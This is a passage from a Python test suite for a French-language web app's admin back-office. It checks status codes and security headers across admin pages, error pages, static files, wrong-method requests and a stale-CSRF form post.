            checked += 1
    with admin_browser(runtime) as browser:
        assert browser.log_in(EMAILS["admin"]).status_code == 303
        for path, _ in gets:
            if path == "/logout":
                continue
            target = concrete(path, world.mine)
            response = browser.get(target)
            assert response.status_code < 500, (target, response.status_code)
            seen[response.status_code] = seen.get(response.status_code, 0) + 1
            assert_secured(response, target)
            checked += 1
        errors = {
            "/admin/nulle-part": (browser.get, 404),
            "/admin/static/absent.css": (browser.get, 404),
            f"/admin/residents/{MAX_ID + 1}": (browser.get, 404),
            "/admin/static/admin.css": (browser.get, 200),
            "/admin/static/htmx.min.js": (browser.get, 200),
        }
        for path, (method, status) in errors.items():
            response = method(path)
            assert response.status_code == status, (path, response.status_code)
            assert_secured(response, path)
            checked += 1
        # An address that names no page sends back to the back-office's home, and says so
        assert '<a href="/admin/">Revenir à l&#39;accueil de la gestion</a>' in browser.get("/admin/nulle-part").text
        with TestClient(create_app(runtime, with_scheduler=False), raise_server_exceptions=False) as client:
            failing = Staff(client)
            failing.log_in(EMAILS["admin"])
            response = failing.get("/admin/en-panne")
            assert response.status_code == 500
            assert_secured(response, "/admin/en-panne")
            checked += 1
        for response, status in (
            (browser.client.put("/admin/login"), 405),
            (browser.client.delete("/admin/accounts"), 405),
            (browser.post("/admin/accounts/new", {"csrf": "périmé"}, csrf=False), 403),
        ):
            assert response.status_code == status, response.request.url
            assert_secured(response, str(response.request.url.path))
            checked += 1
        assert "Allow" in browser.client.put("/admin/login").headers
    assert seen.get(200, 0) > len(gets) / 2, seen  # real pages were checked, not a row of redirects
    record(SUITE, header_checks=checked)
